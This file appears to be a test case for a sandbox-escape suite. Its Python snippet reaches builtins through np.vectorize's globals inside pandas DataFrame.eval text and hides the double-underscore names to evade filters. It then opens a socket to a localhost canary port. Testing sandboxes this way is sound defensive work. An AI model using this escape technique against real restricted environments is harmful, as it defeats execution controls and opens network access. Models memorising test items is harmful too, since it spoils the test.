# class: module_reach
# technique: socket loaded by the builtins dict's import function read from np.vectorize.__init__.__globals__ in expression text; a connection to the canary port (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: net
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2

b = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['" + u + "builtins" + u + "']", v=[np.vectorize])
conn = b[u + "import" + u]("socket").create_connection(("127.0.0.1", {{CANARY_PORT}}), timeout=3)
conn.sendall(b"GET /anyplot-escape HTTP/1.0\r\n\r\n")
df = pd.DataFrame({"answer": [conn.recv(4096).decode("latin-1")]})
